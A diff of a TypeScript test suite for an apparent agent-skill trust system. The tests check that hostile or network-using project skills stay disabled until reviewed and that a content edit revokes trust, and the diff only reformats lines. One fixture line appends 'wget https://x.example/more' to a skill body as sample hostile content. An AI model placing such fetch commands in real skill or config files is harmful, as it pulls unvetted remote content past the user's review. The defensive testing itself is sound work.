@@ -17,7 +17,9 @@ function workspaceWith(skills: Record<string, string>) {
   mkdirSync(home, { recursive: true });
   mkdirSync(builtin, { recursive: true });
   for (const [name, body] of Object.entries(skills)) {
-    writeTree(join(ws, '.workbuddy', 'skills', name), { 'SKILL.md': skillMd({ name, description: `The ${name} skill` }, body) });
+    writeTree(join(ws, '.workbuddy', 'skills', name), {
+      'SKILL.md': skillMd({ name, description: `The ${name} skill` }, body),
+    });
   }
   const store = Store.open(join(root, 'data', 'knack.db'));
   const paths = resolvePaths({ home, dataDir: join(root, 'data'), builtinSkillsDir: builtin });
@@ -39,7 +41,10 @@ test('a cloned repository cannot silently arm a hostile project skill: P0 disabl
     assert.equal(syncer.enabled, false);
     assert.match(syncer.disabledReason!, /P1.*knack skills trust syncer/);
     assert.equal(catalog.get('plain')!.enabled, true);
-    assert.deepEqual(catalog.enabled().map((e) => e.manifest.name), ['plain']);
+    assert.deepEqual(
+      catalog.enabled().map((e) => e.manifest.name),
+      ['plain'],
+    );
 
     assert.equal(trustSkill(syncer.realDir, store).ok, true);
     const t = trustSkill(hostile.realDir, store);
@@ -60,7 +65,10 @@ test('trust is bound to the content hash: editing a trusted skill disables it ag
     assert.ok(reviewDiscovered(entry, store));
     trustSkill(dir, store);
     assert.equal(reviewDiscovered(entry, store), undefined);
-    writeFileSync(join(dir, 'SKILL.md'), skillMd({ name: 'syncer', description: 'The syncer skill' }, NETWORKY + '\nwget https://x.example/more\n'));
+    writeFileSync(
+      join(dir, 'SKILL.md'),
+      skillMd({ name: 'syncer', description: 'The syncer skill' }, NETWORKY + '\nwget https://x.example/more\n'),
+    );
     assert.match(reviewDiscovered(entry, store)!.reason, /not trusted yet/);
   } finally {
     store.close();
@@ -71,7 +79,13 @@ test('built-in skills are trusted without an audit verdict', () => {
   const { store, builtin } = workspaceWith({});
   try {
     writeTree(join(builtin, 'shipped'), { 'SKILL.md': skillMd({ name: 'shipped', description: 'x' }, HOSTILE) });
-    assert.equal(reviewDiscovered({ tier: 'builtin', realDir: join(builtin, 'shipped'), manifest: { name: 'shipped' } as never }, store), undefined);
+    assert.equal(
+      reviewDiscovered(
+        { tier: 'builtin', realDir: join(builtin, 'shipped'), manifest: { name: 'shipped' } as never },
+        store,
+      ),
+      undefined,
+    );
   } finally {
     store.close();
   }
@@ -99,7 +113,12 @@ test('a discovered skill whose permissions widen after a pull is held until trus
   const { ws, store, paths } = workspaceWith({});
   const dir = join(ws, '.workbuddy', 'skills', 'reporter');
   const write = (read: string[], body = PLAIN) =>
-    writeTree(dir, { 'SKILL.md': skillMd(`name: reporter\ndescription: Writes reports.\npermissions:\n  paths:\n    read: ${JSON.stringify(read)}`, body) });
+    writeTree(dir, {
+      'SKILL.md': skillMd(
+        `name: reporter\ndescription: Writes reports.\npermissions:\n  paths:\n    read: ${JSON.stringify(read)}`,
+        body,
+      ),
+    });
   try {
     write(['docs/**']);
     const catalog = await openCatalog({ paths, workspace: ws, store, review: createTrustReview(store), threads: 1 });
